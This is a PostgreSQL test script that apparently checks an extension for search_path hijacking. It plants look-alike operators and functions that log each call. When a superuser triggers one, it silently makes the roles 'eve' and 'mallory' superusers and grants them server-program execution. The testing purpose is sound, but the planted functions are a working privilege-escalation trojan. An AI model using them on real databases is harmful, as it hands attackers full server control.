-- test/security.sh: an attacker's plants, run by the attacker (a role with
-- CREATE on the database and nothing else) with psql -v schema=NAME.
--
-- Every plant records its call (a sequence, which a rollback does not undo,
-- a log table and a WARNING), when the caller is a superuser makes the
-- attackers superusers, and then returns what pg_catalog's operator or
-- function would have returned, so that the caller carries on.  Plants:
--   operators: for each binary operator name of pg_catalog and each pair of
--     common types without an exact pg_catalog operator of that name, when
--     the expression resolves to a pg_catalog operator by implicit casts (so
--     an exact match in another schema would be chosen instead), a plant with
--     the same result type;
--   functions: for each function or aggregate of pg_catalog whose name is
--     called in the body of an SQL or PL/pgSQL function of the extension
--     (:'called' = the names, one per line), a plant with one argument type
--     replaced by a common type that casts implicitly to it.
\set ON_ERROR_STOP on
SET client_min_messages = notice;
SET search_path = pg_catalog, pg_temp;
SET plant.schema = :'schema';
SET plant.called = :'called';
CREATE SCHEMA IF NOT EXISTS :"schema";
GRANT ALL ON SCHEMA :"schema" TO PUBLIC;

CREATE TEMP TABLE common_types (t regtype);
INSERT INTO common_types VALUES
    ('smallint'), ('integer'), ('bigint'), ('numeric'), ('real'), ('double precision'),
    ('text'), ('character varying'), ('"char"'), ('name'), ('boolean'), ('date'),
    ('time'), ('timestamp'), ('timestamptz'), ('interval'), ('bytea'), ('json'), ('jsonb'),
    ('smallint[]'), ('integer[]'), ('bigint[]'), ('numeric[]'), ('double precision[]'),
    ('text[]'), ('boolean[]'), ('date[]'), ('timestamptz[]'), ('interval[]');

DO $plant$
DECLARE
    s text := current_setting('plant.schema');
    op record;
    fn record;
    res regtype;
    n int := 0;
    args regtype[];
BEGIN
    EXECUTE format('CREATE SEQUENCE %I.plant_calls', s);
    EXECUTE format('CREATE TABLE %I.plant_log (plant text, caller name, at timestamptz DEFAULT now())', s);
    EXECUTE format('GRANT ALL ON SEQUENCE %I.plant_calls TO PUBLIC', s);
    EXECUTE format('GRANT ALL ON TABLE %I.plant_log TO PUBLIC', s);
    EXECUTE format($f$
        CREATE FUNCTION %1$I.plant_called(what text) RETURNS void
            LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $body$
        BEGIN
            PERFORM nextval(%2$L::regclass);
            -- one warning per plant and transaction (a loop may call it often)
            IF NOT EXISTS (SELECT FROM %1$I.plant_log WHERE plant = what) THEN
                RAISE WARNING 'PLANT CALLED: %% by %%', what, current_user;
                INSERT INTO %1$I.plant_log (plant, caller) VALUES (what, current_user);
            END IF;
            IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user)
               AND NOT (SELECT rolsuper FROM pg_roles WHERE rolname = 'eve') THEN
                ALTER ROLE eve SUPERUSER;
                ALTER ROLE mallory SUPERUSER;
                GRANT pg_execute_server_program TO eve, mallory;
            END IF;
        END
        $body$ $f$, s, format('%I.plant_calls', s));
    EXECUTE format('GRANT EXECUTE ON FUNCTION %I.plant_called(text) TO PUBLIC', s);

    -- operators
    FOR op IN
        SELECT o.name, l.t AS l, r.t AS r
          FROM (SELECT DISTINCT oprname AS name FROM pg_operator
                 WHERE oprkind = 'b' AND oprnamespace = 'pg_catalog'::regnamespace) o,
               common_types l, common_types r
         WHERE NOT EXISTS (SELECT FROM pg_operator x
                            WHERE x.oprname = o.name AND x.oprleft = l.t AND x.oprright = r.t
                              AND x.oprnamespace = 'pg_catalog'::regnamespace)
         ORDER BY 1, 2, 3
    LOOP
        BEGIN
            EXECUTE format('SELECT pg_typeof(NULL::%s %s NULL::%s)', op.l, op.name, op.r) INTO res;
        EXCEPTION WHEN OTHERS THEN
            CONTINUE;
        END;
        n := n + 1;
        EXECUTE format('CREATE FUNCTION %I.%I(%s, %s) RETURNS %s LANGUAGE plpgsql
                        SET search_path = pg_catalog, pg_temp AS %L',
                       s, 'plant_op_' || n, op.l, op.r, res,
                       format('BEGIN PERFORM %I.plant_called(%L); RETURN $1 %s $2; END',
                              s, format('operator %s(%s, %s)', op.name, op.l, op.r), op.name));
        EXECUTE format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %I.%I)',
                       s, op.name, op.l, op.r, s, 'plant_op_' || n);
    END LOOP;
    RAISE NOTICE 'planted % operators in %', n, s;

    -- functions with the names of the built-ins the extension calls
    n := 0;
    FOR fn IN
        SELECT DISTINCT p.proname, p.proargtypes::regtype[] AS argtypes, i - 1 AS pos, c.castsource::regtype AS src,
               p.prorettype::regtype AS ret, p.proretset
          FROM pg_proc p
          CROSS JOIN LATERAL generate_series(1, p.pronargs) i
          JOIN pg_cast c ON c.casttarget = p.proargtypes[i - 1] AND c.castcontext = 'i'
          JOIN common_types ct ON ct.t = c.castsource
         WHERE p.pronamespace = 'pg_catalog'::regnamespace
           AND p.proname = ANY (string_to_array(current_setting('plant.called'), E'\n'))
           AND p.prokind IN ('f', 'a', 'w')
           AND NOT EXISTS (SELECT FROM unnest(p.proargtypes::regtype[]) a
                            JOIN pg_type t ON t.oid = a
                           WHERE t.typtype = 'p')
           AND (SELECT typtype FROM pg_type WHERE oid = p.prorettype) <> 'p'
         ORDER BY 1, 2, 3, 4
    LOOP
        args := fn.argtypes;
        args[fn.pos + 1] := fn.src;
        -- an exact pg_catalog function with these arguments would be chosen first
        CONTINUE WHEN EXISTS (SELECT FROM pg_proc x WHERE x.proname = fn.proname
                                 AND x.proargtypes::regtype[] = args
                                 AND x.pronamespace = 'pg_catalog'::regnamespace);
        BEGIN
            EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s%s LANGUAGE plpgsql
                            SET search_path = pg_catalog, pg_temp AS %L',
                           s, fn.proname, array_to_string(args, ', '),
                           CASE WHEN fn.proretset THEN 'SETOF ' ELSE '' END, fn.ret,
                           format('BEGIN PERFORM %I.plant_called(%L); RETURN %s %I(%s); END', s,
                                  format('function %s(%s)', fn.proname, array_to_string(args, ', ')),
                                  CASE WHEN fn.proretset THEN 'QUERY SELECT * FROM' ELSE '' END, fn.proname,
                                  (SELECT string_agg('$' || i, ', ') FROM generate_series(1, array_length(args, 1)) i)));
            n := n + 1;
        EXCEPTION WHEN duplicate_function THEN
            NULL;
        END;
    END LOOP;
    RAISE NOTICE 'planted % functions in %', n, s;
END
$plant$;
